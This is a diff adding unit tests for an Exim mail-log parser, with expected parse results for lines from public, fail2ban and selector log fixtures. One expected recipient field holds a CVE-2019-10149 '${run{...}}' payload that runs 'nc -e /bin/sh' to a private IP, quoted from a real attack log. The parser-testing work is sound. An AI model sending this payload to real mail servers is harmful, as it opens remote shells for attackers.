@@ -25,12 +25,18 @@
 
 static rs_test_fixture_t testsuite; /* exim-testsuite.log, corpus lines 1-727 */
 static rs_test_fixture_t legacy;    /* exim-2012.log, corpus lines 728-731 */
+static rs_test_fixture_t public13;  /* public.log, other public sources */
+static rs_test_fixture_t fail2ban;  /* fail2ban.log, fail2ban test data */
+static rs_test_fixture_t selectors; /* selectors.log */
 
 static int group_setup(void **state)
 {
 	(void)state;
 	if (rs_test_fixture_load("exim/exim-testsuite.log", &testsuite) != 0 ||
-	    rs_test_fixture_load("exim/exim-2012.log", &legacy) != 0) {
+	    rs_test_fixture_load("exim/exim-2012.log", &legacy) != 0 ||
+	    rs_test_fixture_load("exim/public.log", &public13) != 0 ||
+	    rs_test_fixture_load("exim/fail2ban.log", &fail2ban) != 0 ||
+	    rs_test_fixture_load("exim/selectors.log", &selectors) != 0) {
 		return -1;
 	}
 	return 0;
@@ -41,6 +47,9 @@ static int group_teardown(void **state)
 	(void)state;
 	rs_test_fixture_free(&testsuite);
 	rs_test_fixture_free(&legacy);
+	rs_test_fixture_free(&public13);
+	rs_test_fixture_free(&fail2ban);
+	rs_test_fixture_free(&selectors);
 	return 0;
 }
 
@@ -72,7 +81,9 @@ static void release(parsed_t *p)
 
 /* One line and what the record must hold. */
 typedef struct row {
-	char file;         /* 'T' exim-testsuite.log, 'L' exim-2012.log */
+	char file;         /* 'T' exim-testsuite.log, 'L' exim-2012.log,
+	                      'P' public.log, 'F' fail2ban.log,
+	                      'S' selectors.log */
 	int line;          /* 1-based line of that fixture */
 	const char *input; /* constructed line, instead of file/line */
 	rs_parse_result_t res;
@@ -1000,6 +1011,232 @@ static const row_t constructed_rows[] = {
      .res = RS_PARSE_MALFORMED},
 };
 
+/*
+ * public.log: every line, from sources other than the corpus (README): an
+ * "exim[pid]: " line without the syslog date and host and with the wording
+ * of Exim before 4.50 ("SMTP error from remote mailer after"), 2012
+ * end-of-data bounces and defers, Exim 4.98 with 23-character ids (11-16:
+ * host lines, => with DN=), a cPanel article's lines (17-29: a
+ * CVE-2019-10149 "${run{...}}" address, frozen messages, host-level lines
+ * without a flag (skipped), a multi-line 550 with literal "\n").
+ * fail2ban.log: authenticator failures, rejects, sender verify, "closed by
+ * DROP in ACL" with a message id: all negatives.
+ * selectors.log 11: "->  a <b>" with two spaces after the flag.
+ */
+static const row_t public_rows[] = {
+    {.file = 'P',
+     .line = 1,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_BOUNCED,
+     .stage = RS_STAGE_RCPT_TO,
+     .code = 550,
+     .host = "mx.some-domain.com",
+     .ip = "1.1.1.1",
+     .rcpt = "xxxxxxxx@some-domain.com",
+     .domain = "some-domain.com",
+     .qid = "1Gmary-0002iA-00",
+     .text = "550 Mailbox unavailable <xxxxxxxxxxx@some-domain.com>",
+     .log_time = "2006-11-21 15:01:39",
+     .ms = 1164121299000LL},
+    {.file = 'P',
+     .line = 2,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_BOUNCED,
+     .stage = RS_STAGE_END_OF_DATA,
+     .code = 554,
+     .host = "mta7.am0.yahoodns.net",
+     .ip = "67.195.168.230",
+     .rcpt = "ksppvvxxdo@yahoo.com",
+     .domain = "yahoo.com",
+     .qid = "1RwtEk-0002zL-IF",
+     .text = "554 delivery error: dd Sorry your message to "
+             "ksppvvxxdo@yahoo.com cannot be delivered. This account has been "
+             "disabled or discontinued [#102]. - mta1051.mail.ac4.yahoo.com",
+     .log_time = "2012-02-13 14:39:45",
+     .ms = 1329143985000LL},
+    {.file = 'P',
+     .line = 3,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_BOUNCED,
+     .stage = RS_STAGE_END_OF_DATA,
+     .code = 554,
+     .host = "mta7.am0.yahoodns.net",
+     .ip = "66.94.237.64",
+     .rcpt = "thauocarief@yahoo.com",
+     .domain = "yahoo.com",
+     .qid = "1RwtEg-0002zL-Mh",
+     .text = "554 delivery error: dd Sorry your message to "
+             "thauocarief@yahoo.com cannot be delivered. This account has been "
+             "disabled or discontinued [#102]. - mta1229.mail.mud.yahoo.com",
+     .log_time = "2012-02-13 14:39:23",
+     .ms = 1329143963000LL},
+    {.file = 'P',
+     .line = 4,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_DEFERRED,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 0,
+     .rcpt = "rurqo@asciel.msk.su",
+     .domain = "asciel.msk.su",
+     .qid = "1Rvi19-000Eqz-OX",
+     .text = "Operation timed out",
+     .log_time = "2012-02-13 14:42:27",
+     .ms = 1329144147000LL},
+    {.file = 'P',
+     .line = 5,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_SENT,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 250,
+     .host = "mxs.mail.ru",
+     .ip = "94.100.176.20",
+     .rcpt = "ldtyzggfqejxo@mail.ru",
+     .domain = "mail.ru",
+     .qid = "1RwtJY-0009RI-E4",
+     .text = "250 OK id=1RwtK9-0004SS-Fm",
+     .log_time = "2012-02-13 14:39:57",
+     .ms = 1329143997000LL},
+    {.file = 'P',
+     .line = 6,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_SENT,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 0,
+     .host = "mail.somehost.com",
+     .ip = "84.154.134.45",
+     .rcpt = "tpxmuwr@somehost.ru",
+     .domain = "somehost.ru",
+     .qid = "1RwtdM-0000Ac-9w",
+     .log_time = "2012-02-13 14:59:48",
+     .ms = 1329145188000LL},
+    {.file = 'P',
+     .line = 7,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_DEFERRED,
+     .stage = RS_STAGE_QUEUE,
+     .code = 0,
+     .rcpt = "qwryowky@bbpg.ru",
+     .domain = "bbpg.ru",
+     .qid = "1RwtdC-0000Ac-Dr",
+     .text = "domain matches queue_smtp_domains, or -odqs set",
+     .log_time = "2012-02-13 14:59:48",
+     .ms = 1329145188000LL},
+    {.file = 'P', .line = 8, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 9, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 10, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 11, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 12, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 13, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 14, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 15,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_SENT,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 250,
+     .enhanced = "2.0.0",
+     .host = "mx.yandex.ru",
+     .ip = "77.88.21.249",
+     .rcpt = "xxxxxxx@ya.ru",
+     .domain = "ya.ru",
+     .qid = "1smkL5-00000000e65-24eQ",
+     .text = "250 2.0.0 Ok: queued on "
+             "mail-nwsmtp-mxfront-production-main-42.sas.yp-c.yandex.net "
+             "1725672891-oYTsOiJLGSw0-m3DSxyvl",
+     .log_time = "2024-09-07 01:34:12",
+     .ms = 1725672852000LL},
+    {.file = 'P', .line = 16, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 17, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 18, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 19,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_SENT,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 0,
+     .rcpt = "irwin@mail.cup.com",
+     .domain = "mail.cup.com",
+     .qid = "1j9Zdk-00029d-Bi",
+     .log_time = "2020-03-04 19:25:08",
+     .ms = 1583349908000LL},
+    {.file = 'P',
+     .line = 20,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_BOUNCED,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 0,
+     .rcpt = "${run{\\x2fbin\\x2fsh\\t-c\\t\\x22nc\\t-"
+             "e\\t\\x2fbin\\x2fsh\\t192.168.10.238\\t9963\\x22}}@localhost",
+     .domain = "localhost",
+     .qid = "1j9ZoZ-0002Jk-9W",
+     .text = "Too many \"Received\" headers - suspected mail loop",
+     .log_time = "2020-03-04 19:36:19",
+     .ms = 1583350579000LL},
+    {.file = 'P', .line = 21, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 22, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 23, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 24, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 25,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_DEFERRED,
+     .stage = RS_STAGE_RCPT_TO,
+     .code = 451,
+     .host = "gylsystems.com",
+     .ip = "69.69.69.69",
+     .rcpt = "test@badluckbryan.com",
+     .domain = "badluckbryan.com",
+     .qid = "1XWqqy-00028x-FK",
+     .text = "451 Temporary local problem - please try later",
+     .log_time = "2014-09-24 12:59:49",
+     .ms = 1411563589000LL},
+    {.file = 'P', .line = 26, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 27,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_BOUNCED,
+     .stage = RS_STAGE_RCPT_TO,
+     .code = 550,
+     .host = "mail.domain.com",
+     .ip = "10.5.40.204",
+     .rcpt = "aaron@domain.com",
+     .domain = "domain.com",
+     .qid = "1XO5PX-0006SC-Qa",
+     .text = "550-Verification for <garfield@domain.com>\\n550-The mail server "
+             "could not deliver mail to garfield@domain.com. The account or "
+             "domain may not exist, they may be blacklisted, or missing the "
+             "proper dns entries.\\n550 Sender verify failed",
+     .log_time = "2014-08-31 08:43:16",
+     .ms = 1409474596000LL},
+    {.file = 'P', .line = 28, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 29, .res = RS_PARSE_SKIP},
+    {.file = 'S',
+     .line = 11,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_SENT,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 250,
+     .host = "mail.host.tld",
+     .ip = "123.123.123.123",
+     .rcpt = "foo@bar.tld",
+     .domain = "bar.tld",
+     .qid = "1gtTXl-009NOy-Ft",
+     .text =
+         "250- 4359466 byte chunk, total 4361651\\n250 OK id=1gtTZ9-0003pq-QN",
+     .log_time = "2021-05-04 13:37:00 +0100",
+     .ms = 1620131820000LL},
+    {.file = 'F', .line = 1, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 2, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 3, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 4, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 5, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 6, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 7, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 8, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 9, .res = RS_PARSE_SKIP},
+    {.file = 'F', .line = 10, .res = RS_PARSE_SKIP},
+};
+
 /* Parse one row's line and check every field it names. */
 static void check_row(const row_t *r)
 {
@@ -1011,8 +1248,11 @@ static void check_row(const row_t *r)
 		line = r->input;
 		len = strlen(r->input);
 	} else {
-		const rs_test_fixture_t *f =
-		    r->file == 'L' ? &legacy : &testsuite;
+		const rs_test_fixture_t *f = r->file == 'L'   ? &legacy
+		                             : r->file == 'P' ? &public13
+		                             : r->file == 'F' ? &fail2ban
+		                             : r->file == 'S' ? &selectors
+		                                              : &testsuite;
 		assert_true(r->line >= 1 && (size_t)r->line <= f->count);
 		line = f->line[r->line - 1];
 		len = f->len[r->line - 1];
@@ -1073,6 +1313,33 @@ static void test_real_lines(void **state)
 	(void)state;
 	for (size_t i = 0; i < sizeof(real_rows) / sizeof(real_rows[0]); i++) {
 		check_row(&real_rows[i]);
+	}
+}
+
+static void test_public_lines(void **state)
+{
+	(void)state;
+	assert_int_equal(public13.count, 29);
+	assert_int_equal(fail2ban.count, 10);
+	for (size_t i = 0; i < sizeof(public_rows) / sizeof(public_rows[0]);
+	     i++) {
+		check_row(&public_rows[i]);
+	}
+	/* "exim[pid]: <main log line>" (line 1) is Exim's for auto too. */
+	{
+		rs_logline_t ll;
+		rs_record_t rec;
+		const char *why = NULL;
+
+		rs_logline_init(&ll, public13.line[0], public13.len[0]);
+		assert_true(rs_exim_format.detect(&ll));
+		rs_record_reset(&rec);
+		assert_int_equal(rs_format_parse(rs_format_auto(),
+		                                 public13.line[0],
+		                                 public13.len[0], &rec, &why),
+		                 RS_PARSE_EVENT);
+		assert_int_equal(rec.mta, RS_MTA_EXIM);
+		assert_int_equal(rec.status, RS_STATUS_BOUNCED);
 	}
 }
 
@@ -1306,6 +1573,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_real_lines),
+	    cmocka_unit_test(test_public_lines),
 	    cmocka_unit_test(test_constructed_lines),
 	    cmocka_unit_test(test_corpus_counts),
 	    cmocka_unit_test(test_long_and_cut_lines),
